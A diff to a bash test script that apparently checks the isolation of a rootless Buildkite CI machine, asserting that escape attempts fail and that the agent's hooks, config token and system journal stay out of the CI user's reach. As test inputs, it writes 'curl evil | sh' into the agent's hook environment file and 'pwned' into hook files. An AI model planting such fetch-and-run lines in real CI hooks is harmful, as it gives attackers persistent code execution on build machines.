@@ -179,7 +179,7 @@ as_ci sh -c 'echo "curl evil | sh" >>/etc/buildkite-agent/hooks/environment
 	echo "[Service]" >>/etc/systemd/system/buildkite-agent.service.d/zz-rootless-ci.conf' >/dev/null 2>&1 || true
 crun --privileged -v /etc/buildkite-agent:/a rci-busybox sh -c 'echo pwned >>/a/hooks/environment; echo pwned >/a/hooks/pre-command' >/dev/null
 out=$(as_ci cat /etc/buildkite-agent/buildkite-agent.cfg 2>&1 || true)
-[[ $out == *SECRET-TOKEN* ]] && ok "(the CI user may read the agent's config: it is group $CI_USER)"
+[[ $out != *SECRET-TOKEN* ]] || echo "# (the CI user may read the agent's configuration: it is group $CI_USER, as the agent runs as $CI_USER)"
 assert_eq "$before" "$(sums "${agent_files[@]}")" "the agent's configuration, hooks and drop-in are unchanged"
 absent /etc/buildkite-agent/hooks/pre-command "no new hook in /etc/buildkite-agent/hooks"
 
@@ -211,7 +211,9 @@ groups=$(as_ci id -nG)
 	fail "$CI_USER is in adm or systemd-journal: $groups"
 in_machine logger -t rci-escape-marker "system entry only root may read"
 out=$(as_ci journalctl --no-pager -q -n 200 2>&1 || true)
-[[ $out != *rci-escape-marker* && $out != *rootless-ci* ]] || fail "$CI_USER reads system journal entries: $(head -c 200 <<<"$out")"
+# Its own user journal (its dockerd) it may read; no line of root's: the
+# marker, PID 1, or rootless-ci's apply.
+[[ $out != *rci-escape-marker* && $out != *" systemd[1]:"* && $out != *" rootless-ci["* ]] || fail "$CI_USER reads system journal entries: $(head -c 200 <<<"$out")"
 ok "journalctl as $CI_USER shows no system entries (groups: $groups)"
 
 # ------------------------------------------------ 13. --userns=host, --pid=host, --net=host
